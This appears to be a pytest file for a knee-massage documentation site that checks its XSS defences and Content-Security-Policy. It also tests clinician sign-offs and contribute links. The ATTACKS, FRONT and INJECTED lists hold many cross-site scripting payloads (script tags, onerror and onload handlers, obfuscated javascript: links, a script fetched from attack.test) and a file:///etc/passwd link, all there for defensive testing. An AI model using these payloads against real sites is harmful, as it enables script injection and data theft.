"""Protects readers from what strangers send: no page brings code with it, and a browser would not run it if one did.

Each attack of the contract's last section is built as if nobody had checked anything.
"""

from __future__ import annotations

import base64
import hashlib
import json
import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import unquote_to_bytes

import pytest
from built import PROJECT, BuiltPage, BuiltSite, build, collapse_whitespace, copy_project, words
from justhtml.dom import Element
from playwright.sync_api import Browser, Page

from knee.assets.policy import FIRST_SCRIPT, PLACE, STYLE_PLACE, Policy
from knee.contract.site_context import SiteContext
from knee.facts.review_dates import today_utc
from knee.pictures.judged import judged
from knee.publish.contribute_links import example_page
from knee.publish.rule_list import EXAMPLES, groups
from knee.rules.check import check_folder

Browse = Callable[..., object]

ATTACKS = {
    "script": "<script>attack()</script>",
    "script in a list": "- <script>attack()</script>\n- b",
    "script in a heading": "### A <script>attack()</script> b",
    "script after a code fence": "```\na\n```\n<script>attack()</script>",
    "picture that fails": '<img src="x" onerror="attack()">',
    "picture in words": "a <img src=x onerror=attack()> b",
    "comment": "<!-- a --><script>attack()</script><!-- b -->",
    "odd comment": "<!--> <script>attack()</script> -->",
    "instruction": "<?php attack() ?>",
    "declaration": "<!DOCTYPE html [<!ENTITY a 'attack()'>]>",
    "cdata": "<![CDATA[<script>attack()</script>]]>",
    "tag not closed": "<b onclick=attack() \n\nmore",
    "svg": '<svg onload="attack()"><script>attack()</script></svg>',
    "frame": '<iframe srcdoc="<script>attack()</script>"></iframe>',
    "form": '<form action="https://attack.test/"><button>a</button></form>',
    "base": '<base href="https://attack.test/">',
    "style": "<style>@import url(https://attack.test/)</style>",
    "markdown in html": '<div markdown="1" onclick="attack()">*a*</div>',
    "attribute list": 'Some words.\n{: onclick="attack()" style="background:url(https://attack.test/)" }',
    "attribute list in a line": 'Some *words*{: onclick="attack()" } here.',
    "attribute list on a heading": "### Words { onclick=attack() }",
    "note": '!!! note "<script>attack()</script>"\n    <script>attack()</script>',
    "folding note": "??? note\n    <script>attack()</script>",
    "tab": '=== "<script>attack()</script>"\n    <script>attack()</script>',
    "include": '--8<-- "secret.txt"',
    "include in a fence": '```\n-8<- "secret.txt"\n--8<-- "secret.txt"\n```',
    "link": "[a](javascript:attack())",
    "link with capitals": "[a](JaVaScRiPt:attack())",
    "link with an entity": "[a](javascript&#58;attack()) [b](&#x6a;avascript:attack()) [c](javascript&colon;attack())",
    "link with a line end": "[a](java&#10;script:attack()) [b](java&Tab;script:attack())",
    "link with a sign in front": "[a](&#1;javascript:attack()) [b](<  javascript:attack()>)",
    "link in angle brackets": "<javascript:attack()>",
    "link by reference": "[a][b]\n\n[b]: javascript:attack() 'c'",
    "link with data": "[a](data:text/html;base64,PHNjcmlwdD4=) [b](vbscript:attack()) [c](file:///etc/passwd)",
    "link to another host": "[a](//attack.test/) [b](\\\\attack.test) [c](/attack)",
    "link with a title": "[a](../tips.md '\" onclick=\"attack()')",
    "picture with a title": "![a long enough text for this picture](gentle-knee-rub.svg '\" onerror=\"attack()')",
    "picture from elsewhere": "![a long enough text for this picture](https://attack.test/a.png)",
    "picture with a scheme": "![a long enough text for this picture](javascript:attack()) ![b](data:image/svg+xml,<svg/onload=attack()>)",
    "words of a picture": '![" onerror="attack()](gentle-knee-rub.svg)',
    "fence with attributes": '```{ .py onclick="attack()" }\na\n```',
    "table": "| a | b |\n| --- | --: |\n| <script>attack()</script> | [c](javascript:attack()) |",
    "placeholder of the reader": "\x02wzxhzdk:0\x03 \x02knee\x03",
    "place in the policy": f"{PLACE} <script>attack()</script>",
}
ENDS_DATA = "</script><script>attack()</script> & 'more'"
TITLE = "# Rub &amp; hold &lt;/title&gt;&lt;meta http-equiv=refresh content=1;//attack.test&gt;"
DESCRIPTION = 'A description that ends the attribute: "><script>attack()</script> and is long enough.'
FRONT = {
    "description": f"'{DESCRIPTION}'",
    "often": "'<img src=x onerror=attack()>'",
    "works_on": "'<script>attack()</script>'",
    "title": "'</title><script>attack()</script>'",
    "template": "../../secret.txt",
    "evidence": "'<script>attack()</script>'",
}
NO_CODE = {"script", "iframe", "object", "embed", "style", "base", "form", "svg", "math", "link", "meta", "template", "foreignobject"}
DATA = ("application/json", "application/ld+json")
ADDRESSES = ("href", "src", "action", "formaction", "srcdoc", "srcset", "xlink:href", "data", "poster", "background", "ping")
NOBODY_CHECKS = """
from knee.rules import RULES

for rule in RULES.values():
    object.__setattr__(rule, "check", lambda subject: iter(()))
"""
"""A hook that comes before ours: every rule is there, and none finds anything."""


@pytest.fixture(scope="module")
def unchecked(made_once: Callable[..., Path]) -> BuiltSite:
    """Build a page for each attack where no rule finds anything. The page of an attack is `attack-1`, `attack-2` and so on."""
    return BuiltSite(made_once("unchecked", _build_unchecked) / "site", "https://knee.test/")


def _build_unchecked(project: Path) -> None:
    copy_project(project)
    (project / "secret.txt").write_text("attack: the secret", "utf-8")
    (project / "hooks" / "nobody_checks.py").write_text(NOBODY_CHECKS, "utf-8")
    settings = (project / "mkdocs.yml").read_text("utf-8")
    (project / "mkdocs.yml").write_text(settings.replace("hooks:\n", "hooks:\n  - hooks/nobody_checks.py\n"), "utf-8")
    folder = project / "docs" / "techniques"
    model = (folder / "gentle-knee-rub.md").read_text("utf-8").replace("order: 1\n", "")
    start, _, rest = model.partition("\n## Safety note")
    for number, attack in enumerate(ATTACKS.values()):
        attacked = f"{start}\n\n{attack}\n\n## Safety note{rest}\n\n## More\n\n{attack}\n".replace(
            "# Front of the knee: gentle knee rub", f"# Attack {number}"
        )
        (folder / f"attack-{number}.md").write_text(attacked.replace("gentle-knee-rub", f"attack-{number}"), "utf-8")
        for picture in folder.glob("gentle-knee-rub*.svg"):
            shutil.copy(picture, folder / picture.name.replace("gentle-knee-rub", f"attack-{number}"))
    for key, value in FRONT.items():
        changed = re.sub(f"^{key}: .*\n", "", model, flags=re.MULTILINE).replace("---\n", f"---\n{key}: {value}\n", 1)
        (folder / f"front-{key}.md").write_text(changed, "utf-8")
    data = model.replace("# Front of the knee: gentle knee rub", f"# Rub `{ENDS_DATA}`").replace("1. Sit", f"1. `{ENDS_DATA}` Sit")
    title = model.replace("# Front of the knee: gentle knee rub", TITLE)
    for slug, text in (("attack-data", data), ("attack-title", title)):
        (folder / f"{slug}.md").write_text(text.replace("gentle-knee-rub", slug), "utf-8")
        for picture in folder.glob("gentle-knee-rub*.svg"):
            shutil.copy(picture, folder / picture.name.replace("gentle-knee-rub", slug))
    built = build(project, project / "site", strict=False, SITE_URL="https://knee.test/", REPO_URL="https://code.test/knee-ease")
    assert built.returncode == 0, built.stdout[-3000:]
    assert re.findall(r" KE[0-8]\d\d .*", built.stdout) == [], "no rule found anything; the proof (KE9) is no rule"


def hashed(script: str) -> str:
    """Give a script as a policy would name it."""
    return f"'sha256-{base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()}'"


def is_harmless_drawing(address: str) -> bool:
    """Whether an address holds a drawing that stands in the page itself, and nothing in it could run or ask for anything."""
    kind, _, drawing = address.partition(",")
    return kind == "data:image/svg+xml" and judged(unquote_to_bytes(drawing)).is_sound and "attack" not in drawing


def code_in(elements: list[Element]) -> list[str]:
    """Give what a browser could run, or fetch from elsewhere, in elements that came from a page's words."""
    found = [f"<{element.name}>" for element in elements if element.name in NO_CODE]
    for element in elements:
        for name, value in element.attrs.items():
            address = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if element.name == "img" and name == "src" and is_harmless_drawing(value or ""):
                continue
            if (
                name.startswith("on")
                or name == "style"
                or (
                    name in ADDRESSES
                    and (re.match(r"[a-z][a-z0-9+.-]*:|//|/", address) and not address.startswith(("https://", "mailto:")))
                )
                or (name == "src" and address.startswith("https:"))
            ):
                found.append(f"{name}={value}")
    return found


def scripts_that_run(page: BuiltPage) -> list[Element]:
    """Give the scripts of a page without its blocks of data, which a browser never runs."""
    return [script for script in page.all("script") if script.attrs.get("type") not in DATA]


def from_the_page(page: BuiltPage) -> list[Element]:
    """Give every element that a page's own words can have made: its cards, lists, pictures and sections."""
    mine = ", ".join(f".page > {name}" for name in ("h1", "h3", "p", "figure", "section", "ul", "ol", "pre", "table", "blockquote"))
    return [element for part in page.all(mine) for element in [part, *part.query("*")]]


@pytest.mark.parametrize("number", range(len(ATTACKS)), ids=list(ATTACKS))
def test_no_attack_becomes_code_even_if_nobody_checks(unchecked: BuiltSite, number: int) -> None:
    page = unchecked.page(f"techniques/attack-{number}/")
    elements = from_the_page(page)
    assert len(elements) > 50, "the page is there, with its steps"
    assert code_in(elements) == []
    assert "attack: the secret" not in page.html
    assert not [script for script in scripts_that_run(page) if "attack" in (script.to_text() or "")]


@pytest.mark.parametrize("key", FRONT)
def test_no_front_matter_becomes_code_even_if_nobody_checks(unchecked: BuiltSite, key: str) -> None:
    for address in (f"techniques/front-{key}/", "techniques/", ""):
        page = unchecked.page(address)
        theirs = [
            element for element in page.all("*") if "attack" in " ".join([*element.attrs, *(v or "" for v in element.attrs.values())])
        ]
        assert [
            element.to_html() for element in theirs if element.name not in ("meta", "a", "img", "li", "section", "option", "article")
        ] == []
        assert not [script for script in scripts_that_run(page) if "attack()" in (script.to_text() or "")]
        assert not page.all("img[onerror]")
        assert "attack: the secret" not in page.html


def test_no_words_of_a_page_can_end_a_block_of_data(unchecked: BuiltSite) -> None:
    """The blocks for search engines hold strangers' words: no sign in them means anything in HTML, and all come out as written."""
    for page in unchecked.pages:
        for block in page.all('script[type="application/ld+json"]'):
            assert not set("<>&'") & set(block.to_text(strip=False))
    page = unchecked.page("techniques/attack-data/")
    told = json.loads(page.one('script[type="application/ld+json"]').to_text(strip=False))["mainEntity"]
    assert told["name"] == f"Rub {ENDS_DATA}"
    assert told["step"][1]["text"].startswith(f"{ENDS_DATA} Sit")
    assert not [script for script in scripts_that_run(page) if "attack()" in (script.to_text() or "")]


def test_a_title_is_words_in_every_place_that_shows_it(unchecked: BuiltSite) -> None:
    """Also one whose signs are written as the checks advise, `&lt;` for `<`: in the head, in data, in what other sites show."""
    shown = unchecked.page("techniques/attack-title/")
    said = "Rub & hold </title><meta http-equiv=refresh content=1;//attack.test>"
    assert [meta.attrs["http-equiv"] for meta in shown.all("meta[http-equiv]")] == ["Content-Security-Policy"]
    assert words(shown.one("title")) == f"{said} - Knee Ease"
    assert shown.one('meta[property="og:title"]').attrs["content"] == said
    assert json.loads(shown.one('script[type="application/ld+json"]').to_text())["name"] == said


def test_no_page_of_a_stranger_is_named_in_a_policy(unchecked: BuiltSite) -> None:
    """A script counts by its text: one that had come in would not be allowed because it stands on the page."""
    for page in unchecked.pages:
        assert hashed("attack()") not in policy(page)["script-src"]


# The policy


def policy(page: BuiltPage) -> dict[str, set[str]]:
    """Give a page's policy, by directive."""
    (meta,) = page.all('meta[http-equiv="Content-Security-Policy"]')
    parts = [part.split() for part in (meta.attrs["content"] or "").split(";")]
    return {part[0]: set(part[1:]) for part in parts}


ALLOWED = {
    "default-src": {"'none'"},
    "img-src": {"'self'", "data:"},
    "connect-src": {"'self'"},
    "worker-src": {"'self'"},
    "base-uri": {"'none'"},
    "form-action": {"'self'"},
}


def test_every_page_allows_only_the_sites_own(site: BuiltSite, bare_site: BuiltSite, subtests: pytest.Subtests) -> None:
    for page in [*site.pages, bare_site.page(""), bare_site.page("404.html")]:
        with subtests.test(page.address):
            found = policy(page)
            scripts, styles = found.pop("script-src"), found.pop("style-src")
            assert found == ALLOWED
            inline = [s.to_text(strip=False) for s in page.all("script") if not {"src", "type"} & set(s.attrs)]
            checker = {"'wasm-unsafe-eval'"} if page.address == "write/" else set()  # the checker in the browser is WebAssembly
            assert scripts == {"'self'", *map(hashed, inline), *checker}
            assert len(inline) == 1, "the one that stands in every page, and no other"
            own = [style.to_text(strip=False) for style in page.all("style")]
            assert styles == {"'self'", *map(hashed, own)}
            assert len(own) == (0 if page.address in ("my-sheets/", "write/") else 2), "those two are linked to the style of all pages"


def test_the_policy_comes_before_everything_that_it_is_for(site: BuiltSite) -> None:
    for page in site.pages:
        head = page.html.partition("</head>")[0]
        assert head.index("Content-Security-Policy") < min(head.index(f"<{name}") for name in ("script", "link", "title"))
        assert head.count("<script") == 1


def test_no_page_needs_what_the_policy_refuses(site: BuiltSite) -> None:
    for page in site.pages:
        assert page.all("[style]") == []
        attributes = [name for element in page.all("*") for name in element.attrs]
        assert [name for name in attributes if name.startswith("on")] == []


@pytest.fixture
def templates(tmp_path: Path) -> Path:
    """Give a folder of templates whose first script is short."""
    template = tmp_path / FIRST_SCRIPT
    template.parent.mkdir(parents=True)
    template.write_text('{#- words -#}\n<script>a=new URL("b",c)</script>\n', "utf-8")
    return tmp_path


def test_only_the_text_of_the_template_is_named(templates: Path) -> None:
    html = f'<meta content="{PLACE}"><script>a=new URL("b",c)</script><script>evil()</script>'
    assert Policy.of(templates).put_into(html) == html.replace(PLACE, hashed('a=new URL("b",c)'))


def test_only_the_style_that_the_build_has_made_is_named(templates: Path) -> None:
    html = f"style-src 'self'{STYLE_PLACE};"
    assert Policy.of(templates).put_into(html, ["p{color:red}"]) == f"style-src 'self' {hashed('p{color:red}')};"
    assert Policy.of(templates).put_into(html) == "style-src 'self';"


def test_a_page_without_a_policy_is_left_as_it_is(templates: Path) -> None:
    assert Policy.of(templates).put_into("<urlset/>") == "<urlset/>"


def test_while_writing_the_servers_own_script_runs(templates: Path) -> None:
    """`mkdocs serve` puts a script into each page, to show changes; only there is it allowed."""
    assert Policy.of(templates, serving=True).put_into(f"script-src 'self' {PLACE}") == "script-src 'self' 'unsafe-inline'"


# In a browser


@pytest.fixture
def attacked(chromium: Browser, site: BuiltSite) -> Iterator[Callable[[str], Page]]:
    """Give a function that opens a page of the site as if an attacker had put some HTML at its end."""
    html = (site.folder / "tips" / "index.html").read_text("utf-8")
    page = chromium.new_page()
    page.route("**/attack.test/**", lambda route: route.fulfill(body="window.attacked = 'from elsewhere'"))

    def opened(extra: str) -> Page:
        page.unroute("**/tips/")
        body = html.replace("</main>", f"{extra}</main>")
        page.route("**/tips/", lambda route: route.fulfill(body=body, content_type="text/html; charset=utf-8"))
        page.goto(site.home + "tips/")
        page.wait_for_load_state("load")
        return page

    yield opened
    page.close()


INJECTED = [
    "<script>window.attacked = 1</script>",
    '<img src="x" onerror="window.attacked = 1">',
    '<svg onload="window.attacked = 1"></svg>',
    '<script src="https://attack.test/a.js"></script>',
    '<script src="data:text/javascript,window.attacked = 1"></script>',
    '<script type="module">window.attacked = 1</script>',
    '<iframe srcdoc="<script>parent.attacked = 1</script>"></iframe>',
    '<details open ontoggle="window.attacked = 1"><summary>a</summary></details>',
]


def test_an_injected_script_does_not_run(attacked: Callable[[str], Page], subtests: pytest.Subtests) -> None:
    for extra in INJECTED:
        with subtests.test(extra):
            page = attacked(extra)
            page.wait_for_timeout(150)
            assert page.locator("main").inner_html().count("attack"), "it is there"
            assert page.evaluate("window.attacked") is None
            assert page.locator("html.js").count() == 1, "while the page's own script runs"


def test_a_link_that_runs_a_script_does_nothing(attacked: Callable[[str], Page]) -> None:
    page = attacked('<a id="bad" href="javascript:window.attacked = 1">a</a>')
    page.locator("#bad").click()
    page.wait_for_timeout(150)
    assert page.evaluate("window.attacked") is None


def test_search_colours_filter_and_session_work_under_the_policy(browse: Browse) -> None:
    """`browse` fails where the browser refused anything."""
    page = browse().open("techniques/")  # type: ignore[attr-defined]
    page.get_by_role("combobox", name="Search").click()
    page.keyboard.type("kneecap")
    page.get_by_role("option").first.wait_for()
    page.goto(page.url.partition("?")[0])
    page.get_by_label("Place").select_option("inner thigh")
    assert words_of(page, ".technique-filter__told").startswith("1 of ")
    page.get_by_label("Dark").check()
    assert page.locator("html").get_attribute("data-colours") == "dark"
    page.locator(".technique-card:visible h2 a").click()
    assert page.locator("html").get_attribute("data-colours") == "dark", "put there by the page's first script"
    page.locator("[data-start=new]").click()
    page.locator("dialog.session section[data-screen=check]").wait_for()


def words_of(page: object, selector: str) -> str:
    return str(page.locator(selector).inner_text())  # type: ignore[attr-defined]


# A sign-off


SIGNED = """reviewed_by:
    name: Ann <b>Able</b>
    profession: physiotherapist
    register: HCPC PH00000
    date: 2026-11-20
    link: https://example.org/signed
    digest: {digest}
"""


@pytest.fixture(scope="module")
def signed(made_once: Callable[..., Path]) -> BuiltSite:
    """Build pages as they were signed, and pages that have changed since. Nobody was strict."""
    return BuiltSite(made_once("signed", _build_signed) / "site")


def _build_signed(project: Path) -> None:
    copy_project(project)
    pages = {page.slug: page for page in check_folder(SiteContext(project / "docs", today_utc())).signable}
    holds = {slug: pages[slug].digest for slug in ("gentle-knee-rub", "when-to-seek-help")}
    for slug, digest in {**holds, "it-band-massage": "0" * 16, "check-first": "0" * 16}.items():
        page = project / "docs" / pages[slug].place
        page.write_text(page.read_text("utf-8").replace("reviewed: ", SIGNED.format(digest=digest) + "reviewed: ", 1), "utf-8")
    tips = project / "docs" / "tips.md"
    tips.write_text(tips.read_text("utf-8").replace("reviewed: ", SIGNED.format(digest="0" * 16) + "reviewed: ", 1), "utf-8")
    built = build(project, project / "site", strict=False)
    assert built.returncode == 0, built.stdout


def test_a_sign_off_is_shown_on_the_page_and_on_the_sheet(signed: BuiltSite) -> None:
    page = signed.page("techniques/gentle-knee-rub/")
    told = "Safety note and steps reviewed by Ann <b>Able</b>, physiotherapist (HCPC PH00000), on 20 November 2026."
    for part in (".page-foot", ".sheet-foot"):
        assert told in words(page.one(part))
        assert "Not reviewed by a clinician" not in words(page.one(part))
    assert "No clinician has reviewed it" not in words(page.one(".site-foot"))
    assert [link.attrs["href"] for link in page.all(".page-foot__sign-off a")] == ["https://example.org/signed"]


def test_a_page_of_signs_shows_its_sign_off_in_the_same_way(signed: BuiltSite) -> None:
    page = signed.page("when-to-seek-help/")
    told = "Signs and cautions reviewed by Ann <b>Able</b>, physiotherapist (HCPC PH00000), on 20 November 2026."
    for part in (".page-foot", ".sheet-foot"):
        assert told in words(page.one(part))
    structured = json.loads(page.one('script[type="application/ld+json"]').to_text(strip=False))
    assert structured["lastReviewed"] == "2026-11-20"
    assert structured["reviewedBy"]["jobTitle"] == "physiotherapist"


def test_programs_are_told_of_a_sign_off_only_where_it_holds(signed: BuiltSite) -> None:
    """With the day on which the clinician read it, not the one on which the authors did."""
    data = json.loads((signed.folder / "techniques.json").read_text("utf-8"))
    for technique in data["techniques"]:
        told = json.loads(signed.page(f"techniques/{technique['slug']}/").one('script[type="application/ld+json"]').to_text(strip=False))
        if technique["slug"] == "gentle-knee-rub":
            assert told["reviewedBy"] == {"@type": "Person", "name": "Ann <b>Able</b>", "jobTitle": "physiotherapist"}
            assert told["lastReviewed"] == technique["reviewed_by"]["date"] == "2026-11-20"
            assert technique["reviewed_by"]["register"] == "HCPC PH00000"
        else:
            assert {"reviewedBy", "lastReviewed"}.isdisjoint(told)
            assert technique["reviewed_by"] is None


@pytest.mark.parametrize("address", ["techniques/it-band-massage/", "check-first/", "tips/", "techniques/quadriceps-massage/"])
def test_without_a_sign_off_that_holds_the_page_says_not_reviewed(signed: BuiltSite, address: str) -> None:
    page = signed.page(address)
    assert "Ann" not in words(page.one("main"))
    for part in (".page-foot", ".sheet-foot"):
        assert "Not reviewed by a clinician." in words(page.one(part))


# The ways in


def test_the_ways_in_stand_where_somebody_looks_for_them(site: BuiltSite) -> None:
    for address in ("techniques/", "contribute/"):
        links = {words(link): link.attrs["href"] or "" for link in site.page(address).all(".add-technique a")}
        assert list(links) == ["Add a technique", "Tell us of a technique without writing the page"]
        assert links["Add a technique"].startswith(
            "https://code.test/knee-ease/new/main/docs/techniques?filename=example-knee-rub.md&value=---%0A"
        )
    for page in site.pages:
        if page.address != "404.html":
            assert [words(link) for link in page.all(".page-foot__mend a")] == ["Suggest a change", "Report a mistake"]


def test_nothing_leads_to_a_code_host_that_nobody_named(bare_site: BuiltSite) -> None:
    for address in ("techniques/", "contribute/", "tips/"):
        assert bare_site.page(address).all(".add-technique a, .page-foot__mend a") == []


def test_the_example_on_the_contribute_page_is_the_one_that_the_link_fills_in(site: BuiltSite) -> None:
    assert site.page("contribute/").one("pre.example-page code").to_text(strip=False) == example_page()


def test_the_contribute_page_shows_for_each_rule_what_its_author_reads(site: BuiltSite) -> None:
    entries = {entry.attrs["id"]: words(entry) for entry in site.page("contribute/").all("dl.rules > div")}
    for group in groups(PROJECT / EXAMPLES):
        for rule in group.rules:
            shown = entries[rule.id.lower()]
            assert rule.bad, rule.id
            for told in (rule.asks, rule.why, rule.bad.what, rule.bad.mend, *(line.text for line in rule.bad.lines)):
                assert collapse_whitespace(told) in shown
